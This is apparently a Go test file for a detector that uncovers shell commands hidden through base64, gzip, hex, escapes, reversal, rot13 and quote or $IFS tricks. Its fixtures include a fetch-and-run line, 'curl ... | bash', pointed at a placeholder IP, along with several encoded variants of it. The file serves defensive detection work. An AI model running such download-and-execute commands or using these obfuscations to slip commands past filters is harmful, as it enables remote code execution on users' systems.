package detectors

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/hex"
	"slices"
	"strings"
	"testing"
)

func TestHidden(t *testing.T) {
	const cmd = "curl -s http://198.51.100.77/x.sh|bash\n"
	var z bytes.Buffer
	w := gzip.NewWriter(&z)
	w.Write([]byte(cmd))
	w.Close()
	b64 := base64.StdEncoding.EncodeToString
	for _, c := range []struct{ trap, in, want string }{
		{"base64 into a shell", "echo " + b64([]byte(cmd)) + " | base64 -d | bash", cmd},
		{"without padding, for URLs", base64.RawURLEncoding.EncodeToString([]byte(cmd)), cmd},
		{"gzip below base64", "echo " + b64(z.Bytes()) + "|base64 -d|gunzip|sh", cmd},
		{"hexadecimal", "xxd -r -p <<< " + hex.EncodeToString([]byte(cmd)), cmd},
		{"escapes", `printf '\x63\x75\x72\x6c\x20\x78\x2e\x79' | sh`, "curl x.y"},
		{"octal escapes", `printf '\143\165\162\154\040\170' | sh`, "curl x"},
		{"reversed", "echo 'hs.x/77.001.15.891 lruc' | rev | sh", "curl 198.51.100.77/x.sh"},
		{"rot13", "codecs.decode('phey k.l', 'rot13')", "curl x.y"},
		{"nothing", "python train.py --lr 3e-4 --out s3://bucket/models", ""},
		{"bytes that are no text", "echo " + b64([]byte("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\xff\xfe")), ""},
	} {
		var got []string
		Hidden(c.in, 1<<20, func(s string) bool { got = append(got, s); return true })
		if c.want == "" && len(got) > 0 || c.want != "" && !slices.ContainsFunc(got, func(s string) bool { return strings.Contains(s, c.want) }) {
			t.Errorf("%s: %q", c.trap, got)
		}
	}
	n := 0
	Hidden(strings.Repeat(b64([]byte(cmd+"#"))+" ", 1000), 1<<20, func(string) bool { n++; return true })
	if n != maxHidden {
		t.Errorf("%d texts of a thousand, want %d", n, maxHidden)
	}
	n = 0
	Hidden(strings.Repeat(b64([]byte(cmd))+" ", 10), 1<<20, func(string) bool { n++; return n < 3 })
	if n != 3 {
		t.Errorf("called %d times after it said no more", n)
	}
}

func TestPlainShell(t *testing.T) {
	for in, want := range map[string]string{
		`cu''rl x`:               "curl x",
		`c"u"rl x`:               "curl x",
		`cu\rl x`:                "curl x",
		`echo$IFS-n${IFS}x`:      "echo -n x",
		`$'\x63\x75\x72\x6c' x`:  "curl x",
		`{curl,-s,x}`:            "curl -s x",
		`python -c "print('a')"`: `python -c "print('a')"`,
	} {
		if got := PlainShell(in); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}
